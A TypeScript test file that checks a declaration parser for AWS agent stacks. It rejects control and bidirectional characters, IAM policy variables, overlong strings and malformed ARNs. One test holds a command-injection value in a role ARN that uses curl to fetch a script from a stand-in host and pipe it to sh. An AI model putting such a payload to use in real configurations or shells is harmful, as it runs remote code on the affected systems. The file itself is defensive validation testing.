/**
 * Every string a declaration holds is read by the grammar (components/core/grammar/strings.ts):
 * bounded in length, no control, bidirectional or invisible character, and no IAM policy variable
 * where the string reaches a policy, a name, a path or a command. Proven field by field: each
 * string of the repository's stacks is spoilt in turn and must be refused at its own path.
 */
import { describe, expect, it } from "vitest";
import { stackFileJsonSchema } from "../../components/core/json-schema";
import { DeclarationError, parseDeclaration } from "../../components/core/schema";
import { characterProblem, policyVariableProblem } from "../../components/core/grammar/strings";
import { arnGrammarProblem } from "../../components/core/grammar/arn";
import { PLATFORM, agent, stackDeclaration } from "../helpers/fixtures";

/** Every string leaf of a value, with its dot path. */
function stringLeaves(value: unknown, path: string[] = []): Array<{ path: string[]; value: string }> {
  if (typeof value === "string") return [{ path, value }];
  if (value === null || typeof value !== "object") return [];
  return Object.entries(value).flatMap(([key, child]) => stringLeaves(child, [...path, key]));
}

function withLeaf(value: unknown, path: readonly string[], leaf: string): unknown {
  if (path.length === 0) return leaf;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string, unknown>;
  copy[path[0]] = withLeaf(copy[path[0]], path.slice(1), leaf);
  return copy;
}

/** Where the refusal of a leaf is reported: the leaf, or for a union's discriminator (`audit.type`) the union. */
const reportedAt = (path: readonly string[]) => (path[path.length - 1] === "type" ? [path.join("."), path.slice(0, -1).join(".")] : [path.join(".")]);
const refusedAt = (issues: ReadonlyArray<{ path: string }>, path: readonly string[]) => issues.some((issue) => reportedAt(path).includes(issue.path));

function issuesOf(input: unknown): Array<{ path: string; label?: string; message: string }> {
  try {
    parseDeclaration(input);
    return [];
  } catch (error) {
    if (error instanceof DeclarationError) return [...error.issues];
    throw error;
  }
}

const SPOILERS = ["\u0000", "\u202e", "\u2066", "\u200b", "\n", "\u001b", "\u2028", "\ud800"];
/** Free text read by people only: a `${` there reaches no policy. */
const PROSE = /(^|\.)(reason|ticket|risk)$/;
/** SQL statements and PEM certificates keep their line breaks (`lines` strings): a newline there is no spoiler. */
const LINES = /(Statements\.\d+|caCertificate)$/;

describe("the declaration's strings", () => {
  it("each has a length bound in the JSON Schema (or is an enum or a constant)", () => {
    const unbounded: string[] = [];
    const visit = (node: unknown, where: string) => {
      if (node === null || typeof node !== "object") return;
      const schema = node as Record<string, unknown>;
      if (schema.type === "string" && schema.maxLength === undefined && schema.enum === undefined && schema.const === undefined) unbounded.push(where);
      for (const [key, child] of Object.entries(schema)) visit(child, `${where}/${key}`);
    };
    visit(stackFileJsonSchema(), "#");
    // kubeContexts' values are bounded too (MAX_KUBE_CONTEXT); nothing is left without a bound.
    expect(unbounded).toEqual([]);
  });

  for (const stack of ["dev", "prod", "sandbox"]) {
    const declaration = stackDeclaration(stack);
    const leaves = stringLeaves(declaration);

    it(`stacks/Pulumi.${stack}.yaml: a control, bidirectional or invisible character in any of its ${leaves.length} strings is refused at that string`, () => {
      expect(issuesOf(declaration)).toEqual([]);
      leaves.forEach(({ path, value }, index) => {
        const pick = SPOILERS[index % SPOILERS.length];
        const spoiler = pick === "\n" && LINES.test(path.join(".")) ? "\u0000" : pick;
        const middle = Math.floor(value.length / 2);
        const issues = issuesOf(withLeaf(declaration, path, `${value.slice(0, middle)}${spoiler}${value.slice(middle)}`));
        expect(refusedAt(issues, path), `${path.join(".")} with U+${spoiler.charCodeAt(0).toString(16)}: ${JSON.stringify(issues)}`).toBe(true);
      });
    });

    it(`stacks/Pulumi.${stack}.yaml: a policy variable in any string but free text is refused at that string`, () => {
      for (const { path, value } of leaves) {
        if (PROSE.test(path.join("."))) continue;
        const issues = issuesOf(withLeaf(declaration, path, `${value}\${aws:username}`));
        expect(refusedAt(issues, path), `${path.join(".")}: ${JSON.stringify(issues)}`).toBe(true);
      }
    });

    it(`stacks/Pulumi.${stack}.yaml: a string over its bound is refused at that string`, () => {
      for (const { path, value } of leaves) {
        const issues = issuesOf(withLeaf(declaration, path, value + "a".repeat(20_000)));
        expect(refusedAt(issues, path), `${path.join(".")}: ${JSON.stringify(issues)}`).toBe(true);
      }
    });
  }
});

describe("refusals name the agent, the field, the reason and the fix", () => {
  const refusal = (overrides: Parameters<typeof agent>[1]) => {
    const issues = issuesOf({ platform: PLATFORM, agents: [agent("report-bot", overrides)] });
    expect(issues.length).toBeGreaterThan(0);
    return issues;
  };

  it("a policy variable in owns, a tool resource, an orchestration model", () => {
    const cases = [
      { overrides: { owns: ["arn:aws:dynamodb:us-east-1:111122223333:table/${aws:UserAgent}"] }, path: "agents.0.owns.0" },
      { overrides: { owns: ["arn:aws:s3:::acme-data/${aws:PrincipalTag/agent}b/*"] }, path: "agents.0.owns.0" },
      {
        overrides: { tools: [{ name: "read", aws: [{ actions: ["s3:GetObject"], resources: ["arn:aws:s3:::acme-data/${aws:username}/*"] }] }] },
        path: "agents.0.tools.0.aws.0.resources.0",
      },
      {
        overrides: { orchestration: { models: ["arn:aws:bedrock:us-east-1::foundation-model/${aws:SourceIdentity}"] } },
        path: "agents.0.orchestration.models.0",
      },
      {
        overrides: { tools: [{ name: "read", aws: [{ actions: ["s3:${*}"], resources: ["arn:aws:s3:::acme-data/report-bot/*"] }] }] },
        path: "agents.0.tools.0.aws.0.actions.0",
      },
    ];
    for (const { overrides, path } of cases) {
      const issue = refusal(overrides).find((i) => i.path === path);
      expect(issue, path).toBeDefined();
      expect(issue!.label).toMatch(/^agents\[0\] \(report-bot\)\./);
      expect(issue!.message).toMatch(/policy variable \$\{.*AWS substitutes it at request time.*write the literal value$/);
    }
  });

  it("a policy variable in a platform share", () => {
    const issues = issuesOf({
      platform: { ...PLATFORM, shared: [{ name: "reports", resource: "arn:aws:s3:::acme-shared/${aws:userid}/*", read: ["report-bot"] }] },
      agents: [agent("report-bot")],
    });
    expect(issues.find((i) => i.path === "platform.shared.0.resource")?.message).toMatch(/policy variable \$\{aws:userid\}/);
  });

  it("a NUL inside a resource ARN, a bidirectional override in an agent's owner", () => {
    const nul = refusal({ tools: [{ name: "read", aws: [{ actions: ["s3:GetObject"], resources: ["arn:aws:s3:::acme-data/report-bot/\u0000x"] }] }] });
    expect(nul.find((i) => i.path === "agents.0.tools.0.aws.0.resources.0")?.message).toMatch(/^contains U\+0000 \(NUL\) at character 35: .*delete it$/);
    const bidi = refusal({ owns: ["arn:aws:s3:::acme-data/report-bot/\u202e/*"] });
    expect(bidi.find((i) => i.path === "agents.0.owns.0")?.message).toMatch(/U\+202E \(a bidirectional control\)/);
  });

  it("a vaultAws role ARN that is no IAM role name (the runbook injection)", () => {
    const issues = refusal({
      tools: [{ name: "reports", vaultAws: { roleArn: "arn:aws:iam::444455556666:role/x;curl${IFS}-s${IFS}evil.example|sh;#", ttl: "15m" } }],
    });
    const messages = issues.filter((i) => i.path === "agents.0.tools.0.vaultAws.roleArn").map((i) => i.message);
    expect(messages.join("\n")).toMatch(/IAM's name characters/);
    expect(messages.join("\n")).toMatch(/policy variable \$\{IFS\}/);
  });
});

describe("the character and policy-variable grammar", () => {
  it("keeps tabs and line breaks in SQL and PEM, nothing else", () => {
    expect(characterProblem("SELECT 1;\n\tSELECT 2;\r\n", "lines")).toBeNull();
    expect(characterProblem("SELECT 1;\u0000", "lines")).toMatch(/NUL/);
    expect(characterProblem("a\nb", "token")).toMatch(/U\+000A \(a control character\)/);
  });

  it("refuses every bidirectional control, and accepts ordinary non-ASCII text", () => {
    for (const code of [0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069])
      expect(characterProblem(`a${String.fromCharCode(code)}b`), code.toString(16)).toMatch(/bidirectional control/);
    expect(characterProblem("Zoë Müller — équipe données")).toBeNull();
  });

  it("finds a policy variable anywhere, and names it", () => {
    expect(policyVariableProblem("arn:aws:s3:::b/${aws:username}/*")).toMatch(/policy variable \$\{aws:username\}/);
    expect(policyVariableProblem("arn:aws:s3:::b/$x{y}")).toBeNull();
    expect(policyVariableProblem("${")).toMatch(/policy variable/);
  });
});

describe("ARNs read against the service reference's resource types", () => {
  it("accepts ARNs of documented types, with their ${Partition}, ${Region} and ${Account} placeholders", () => {
    for (const arn of [
      "arn:aws:s3:::acme-data/report-bot/*",
      "arn:aws:s3:::acme-data",
      "arn:aws:dynamodb:us-east-1:111122223333:table/orders",
      "arn:aws:bedrock:us-east-1::foundation-model/anthropic.claude-3-5-haiku-20241022-v1:0",
      "arn:aws:bedrock:::foundation-model/anthropic.claude-sonnet-4-5-20250929-v1:0",
      "arn:aws-cn:sqs:cn-north-1:111122223333:queue",
      "arn:aws:iam::aws:policy/ReadOnlyAccess",
      "arn:aws:secretsmanager:us-east-1:111122223333:secret:acme/x-??????",
    ])
      expect(arnGrammarProblem(arn), arn).toBeNull();
  });

  it("refuses an unknown service, a bad partition, region or account, and a resource of no documented type", () => {
    expect(arnGrammarProblem("arn:aws:nosuchservice:us-east-1:111122223333:thing/x")).toMatch(/documents no resource types/);
    expect(arnGrammarProblem("arn:aws-iso:s3:::b")).toMatch(/partition "aws-iso"/);
    expect(arnGrammarProblem("arn:aws:dynamodb:moon-1:111122223333:table/t")).toMatch(/region "moon-1"/);
    expect(arnGrammarProblem("arn:aws:dynamodb:us-east-1:1234:table/t")).toMatch(/account "1234"/);
    expect(arnGrammarProblem("arn:aws:dynamodb:us-east-1:111122223333:tabel/t")).toMatch(/names no resource type of dynamodb/);
    expect(arnGrammarProblem("arn:aws:s3:us-east-1:111122223333:acme-data")).toMatch(/names no resource type of s3/);
    expect(arnGrammarProblem("s3://acme-data/x")).toMatch(/not an ARN/);
  });

  it("refuses them in owns, orchestration models and shares, naming the agent and the field", () => {
    const owns = issuesOf({ platform: PLATFORM, agents: [agent("report-bot", { owns: ["arn:aws:dynamodb:us-east-1:111122223333:tabel/orders"] })] });
    expect(owns.find((i) => i.path === "agents.0.owns.0")).toMatchObject({
      label: "agents[0] (report-bot).owns[0]",
      message: expect.stringMatching(/names no resource type of dynamodb/),
    });
    const model = issuesOf({
      platform: PLATFORM,
      agents: [agent("report-bot", { orchestration: { models: ["arn:aws:bedrock:us-east-1::foundation-modle/x"] } })],
    });
    expect(model.find((i) => i.path === "agents.0.orchestration.models.0")?.message).toMatch(/names no resource type of bedrock/);
  });
});
